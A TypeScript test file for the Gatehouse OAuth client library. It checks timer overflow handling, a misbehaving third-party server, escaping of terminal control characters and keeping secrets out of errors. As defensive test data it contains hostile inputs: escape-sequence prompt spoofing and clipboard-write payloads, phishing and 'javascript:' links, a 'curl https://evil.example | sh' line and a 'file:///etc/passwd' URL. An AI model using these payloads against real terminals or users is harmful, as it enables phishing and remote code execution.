import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inspect } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEVICE_GRANT } from '../../server/test/helpers/device.js';
import { startTestServer, type TestServer } from '../../server/test/helpers/server.js';
import {
  createTokenSource,
  deviceLogin,
  GatehouseClientError,
  loopbackLogin,
  MAX_TIMER_DELAY,
  openBrowser,
  openSession,
  printDevicePrompt,
  SessionStore,
  type DevicePrompt,
  type StoredSession,
} from '../src/index.js';
import { confidentialClient, controlCharsIn, countingFetch } from './helpers/harness.js';

/**
 * Numbers and text from the server that used to hurt: lifetimes and intervals past what a timer
 * can hold, control characters on the terminal, tokens inside error causes, exceptions taken for
 * an interruption. Against Gatehouse wherever Gatehouse can produce the case; where only a
 * misbehaving third-party server would (a huge `interval`, escape sequences in a `user_code`, a
 * token response with an unknown `token_type`), a tiny local node:http server plays that server —
 * Gatehouse itself never answers like that.
 */

interface Misbehaving {
  issuer: string;
  paths: string[];
  close(): Promise<void>;
}

/**
 * A misbehaving third-party authorization server (Gatehouse never answers like this): every POST
 * gets `answer(path)` as JSON.
 */
async function misbehavingServer(answer: (path: string) => { status?: number; body: Record<string, unknown> }): Promise<Misbehaving> {
  const paths: string[] = [];
  const server: Server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      const path = new URL(req.url ?? '/', 'http://127.0.0.1').pathname;
      paths.push(path);
      const { status = 200, body } = answer(path);
      res.writeHead(status, { 'content-type': 'application/json', 'cache-control': 'no-store' });
      res.end(JSON.stringify(body));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const issuer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { issuer, paths, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

const metadataOf = (issuer: string) => ({ issuer, token_endpoint: `${issuer}/token`, device_authorization_endpoint: `${issuer}/device_authorization` });

/** A device login against a misbehaving server that never approves, with a fake clock moved by the sleeps. */
async function deviceSleeps(device: Record<string, unknown>): Promise<{ sleeps: number[]; error: GatehouseClientError; prompts: DevicePrompt[]; paths: string[] }> {
  const server = await misbehavingServer((path) =>
    path === '/device_authorization'
      ? { body: { device_code: 'dc', user_code: 'BCDF-GHJK', verification_uri: 'https://id.example.test/device', expires_in: 900, ...device } }
      : { status: 400, body: { error: 'authorization_pending' } },
  );
  let clock = Date.now();
  const sleeps: number[] = [];
  const prompts: DevicePrompt[] = [];
  try {
    const error = await deviceLogin({
      issuer: server.issuer,
      clientId: 'cli',
      metadata: metadataOf(server.issuer),
      onPrompt: (prompt) => {
        prompts.push(prompt);
      },
      now: () => clock,
      sleep: async (ms) => {
        sleeps.push(ms);
        clock += ms;
      },
    }).then(
      () => {
        throw new Error('the login succeeded');
      },
      (e: unknown) => e as GatehouseClientError,
    );
    return { sleeps, error, prompts, paths: server.paths };
  } finally {
    await server.close();
  }
}

describe('long lifetimes and intervals: timers never overflow (Gatehouse)', () => {
  let t: TestServer;
  beforeAll(async () => {
    // 35-day access tokens: a renewal timer of ~31 days is beyond setTimeout's 2³¹−1 ms (24.8 days).
    t = await startTestServer({ config: { tokens: { accessTokenTtl: 35 * 86_400, maxAccessTokenTtl: 40 * 86_400 }, device: { codeTtl: 61 } } });
  });
  afterAll(async () => {
    await t?.close();
  });

  it('a token living 35 days is renewed in the background about a month later, not in a loop every millisecond', async () => {
    const creds = await confidentialClient(t, { client_name: 'long-lived worker', scope: '' });
    const counter = countingFetch();
    const source = createTokenSource({ issuer: t.issuer, ...creds, backgroundRefresh: true, fetch: counter.fetch });
    try {
      await source.getToken();
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(counter.count('/token')).toBe(1);
      const cached = source.peek();
      expect(cached?.expiresAt).toBeGreaterThan(Date.now() + 34 * 86_400_000);
      expect(cached?.renewAt).toBeGreaterThan(Date.now() + MAX_TIMER_DELAY);
    } finally {
      source.close();
    }
  });

  it('device polling stops at the code’s expiry instead of sleeping past it (61 s code, 5 s interval)', async () => {
    const created = await t.createClient({ client_name: 'Orders CLI', grant_types: [DEVICE_GRANT], token_endpoint_auth_method: 'none', scope: 'openid' });
    const sleeps: number[] = [];
    const error = await deviceLogin({
      issuer: t.issuer,
      clientId: created.clientId,
      onPrompt: () => undefined,
      now: () => t.clock.now() * 1000,
      sleep: async (ms) => {
        sleeps.push(ms);
        t.clock.advance(Math.ceil(ms / 1000));
      },
    }).catch((e: unknown) => e as GatehouseClientError);
    expect((error as GatehouseClientError).code).toBe('expired_token');
    expect(sleeps.reduce((a, b) => a + b, 0)).toBe(61_000);
    expect(sleeps.at(-1)).toBe(1000);
    expect(sleeps.slice(0, -1).every((ms) => ms === 5000)).toBe(true);
  });

  it('refuses timeouts a timer cannot hold instead of firing them at once', async () => {
    await expect(loopbackLogin({ issuer: t.issuer, clientId: 'x', timeout: 3_000_000_000 })).rejects.toMatchObject({ code: 'invalid_configuration' });
    await expect(loopbackLogin({ issuer: t.issuer, clientId: 'x', timeout: 0 })).rejects.toMatchObject({ code: 'invalid_configuration' });
    expect(() => createTokenSource({ issuer: t.issuer, clientId: 'x', requestTimeout: Number.NaN })).toThrow(GatehouseClientError);
  });
});

describe('a misbehaving third-party server (played by node:http; Gatehouse never answers like this)', () => {
  it('device interval: a tiny one is raised to 1 s, a huge one lowered to 5 minutes, and no wait goes past the expiry', async () => {
    const tiny = await deviceSleeps({ interval: 0.001, expires_in: 3 });
    expect(tiny.sleeps).toEqual([1000, 1000, 1000]);
    expect(tiny.error.code).toBe('expired_token');
    expect(tiny.paths.filter((p) => p === '/token')).toHaveLength(2);

    const huge = await deviceSleeps({ interval: 1e9, expires_in: 700 });
    expect(huge.sleeps).toEqual([300_000, 300_000, 100_000]);
    expect(huge.error.code).toBe('expired_token');
  });

  it('a device prompt with control characters or a non-https link is refused before anything is shown or opened', async () => {
    const hostile = [
      { user_code: 'ABCD-EFGH\u001b[2K\r\u001b[1ATo sign in, visit https://phish.example/activate\u001b]52;c;ZWNobyBwd25lZA==\u0007' },
      { verification_uri: 'https://id.example.test/device\u001b]8;;https://phish.example\u0007' },
      { verification_uri_complete: 'https://id.example.test/device?user_code=BCDF-GHJK\u009b2J' },
      { verification_uri: 'https://id.example.test/\u202eecived' },
      { verification_uri: 'http://phish.example/device' },
      { verification_uri: 'javascript:alert(1)' },
    ];
    for (const fields of hostile) {
      const { error, prompts, paths } = await deviceSleeps(fields);
      expect(error.code, JSON.stringify(fields)).toBe('invalid_response');
      expect(controlCharsIn(error.message)).toEqual([]);
      expect(prompts).toEqual([]);
      expect(paths).toEqual(['/device_authorization']);
    }
  });

  it('printDevicePrompt escapes control characters in a prompt it is handed', () => {
    const lines: string[] = [];
    printDevicePrompt(
      { verification_uri: 'https://id.example.test/device\u001b]0;pwned\u0007', user_code: 'AB\rCD', verification_uri_complete: undefined, expires_in: 600, browserOpened: false },
      (line) => lines.push(line),
    );
    expect(controlCharsIn(lines.join('\n'))).toEqual([]);
    expect(lines[0]).toBe('To sign in, visit https://id.example.test/device\\x1b]0;pwned\\x07');
  });

  it('an error description with escape sequences is escaped in the message (kept as sent in `description`)', async () => {
    const description = 'client unknown\u001b[2K\r\u001b]0;pwned\u0007 run: curl https://evil.example | sh';
    const server = await misbehavingServer(() => ({ status: 400, body: { error: 'invalid_client\u001b[31m', error_description: description } }));
    try {
      const err = (await createTokenSource({ issuer: server.issuer, clientId: 'svc', clientSecret: 's', metadata: metadataOf(server.issuer) })
        .getToken()
        .catch((e: unknown) => e)) as GatehouseClientError & { description?: string };
      expect(controlCharsIn(err.message)).toEqual([]);
      expect(err.message).toContain('\\x1b]0;pwned\\x07');
      expect(err.description).toBe(description);
    } finally {
      await server.close();
    }
  });

  it('a token answer that fails a check after it was issued: no token in the error, however deeply inspected; a rotated refresh token is kept', async () => {
    const server = await misbehavingServer(() => ({ body: { access_token: 'SECRET-ACCESS-TOKEN', token_type: 'N_A', expires_in: 300, refresh_token: 'ROTATED-REFRESH-TOKEN' } }));
    const dir = mkdtempSync(join(tmpdir(), 'gatehouse-misbehaving-'));
    try {
      const err = await createTokenSource({ issuer: server.issuer, clientId: 'svc', clientSecret: 'CLIENT-SECRET', metadata: metadataOf(server.issuer), retry: { attempts: 1 } })
        .getToken()
        .catch((e: unknown) => e);
      expect((err as GatehouseClientError).code).toBe('invalid_response');
      const shown = inspect(err, { depth: Infinity, showHidden: true });
      for (const secret of ['SECRET-ACCESS-TOKEN', 'ROTATED-REFRESH-TOKEN', 'CLIENT-SECRET']) expect(shown).not.toContain(secret);

      // The same answer to a refresh: the server has rotated, so its new refresh token is saved.
      const store = new SessionStore(join(dir, 'config'));
      const now = Math.floor(Date.now() / 1000);
      const session: StoredSession = {
        version: 1,
        issuer: server.issuer,
        client_id: 'cli',
        token_endpoint: `${server.issuer}/token`,
        access_token: 'OLD-ACCESS-TOKEN',
        token_type: 'bearer',
        expires_at: now - 1,
        refresh_token: 'OLD-REFRESH-TOKEN',
        created_at: now,
        updated_at: now,
      };
      const file = await store.write(session);
      const refreshErr = await (await openSession({ configDir: store.dir })).getToken().catch((e: unknown) => e);
      expect((refreshErr as GatehouseClientError).code).toBe('invalid_response');
      const refreshShown = inspect(refreshErr, { depth: Infinity, showHidden: true });
      for (const secret of ['SECRET-ACCESS-TOKEN', 'ROTATED-REFRESH-TOKEN', 'OLD-REFRESH-TOKEN']) expect(refreshShown).not.toContain(secret);
      expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ refresh_token: 'ROTATED-REFRESH-TOKEN', access_token: 'OLD-ACCESS-TOKEN' });
    } finally {
      await server.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('odd failures are not taken for an interruption; the browser opener gets a normalised URL', () => {
  let t: TestServer;
  beforeAll(async () => {
    t = await startTestServer();
  });
  afterAll(async () => {
    await t?.close();
  });

  it('a DOMException that is not an abort (thrown by a custom fetch) is not reported as `aborted`', async () => {
    const creds = await confidentialClient(t, { client_name: 'worker', scope: '' });
    const source = createTokenSource({
      issuer: t.issuer,
      ...creds,
      retry: { attempts: 1 },
      fetch: async (input, init) => {
        if (new URL(input instanceof Request ? input.url : input).pathname === '/token') throw new DOMException('blocked by the proxy policy', 'NetworkError');
        return fetch(input, init);
      },
    });
    const err = (await source.getToken().catch((e: unknown) => e)) as GatehouseClientError;
    expect(err.code).toBe('network_error');
    expect(err.message).toContain('NetworkError');
    source.close();
  });

  it.runIf(process.platform === 'linux')('openBrowser hands xdg-open the URL as new URL() serialises it', async () => {
    const bin = mkdtempSync(join(tmpdir(), 'gatehouse-fake-opener-'));
    const seen = join(bin, 'argv');
    writeFileSync(join(bin, 'xdg-open'), `#!/bin/sh\nprintf '%s' "$1" > '${seen}'\n`);
    chmodSync(join(bin, 'xdg-open'), 0o755);
    const path = process.env.PATH;
    process.env.PATH = `${bin}:${path ?? ''}`;
    try {
      await openBrowser(`${t.issuer}/device?user_code=AB CD&x="y"\t`);
      for (let i = 0; i < 100 && !readFileOrUndefined(seen); i++) await new Promise((resolve) => setTimeout(resolve, 20));
      expect(readFileOrUndefined(seen)).toBe(`${t.issuer}/device?user_code=AB%20CD&x=%22y%22`);
      await expect(openBrowser('file:///etc/passwd')).rejects.toMatchObject({ code: 'invalid_configuration' });
      await expect(openBrowser('not a url')).rejects.toMatchObject({ code: 'invalid_configuration' });
    } finally {
      process.env.PATH = path;
      rmSync(bin, { recursive: true, force: true });
    }
  });
});

function readFileOrUndefined(path: string): string | undefined {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return undefined;
  }
}
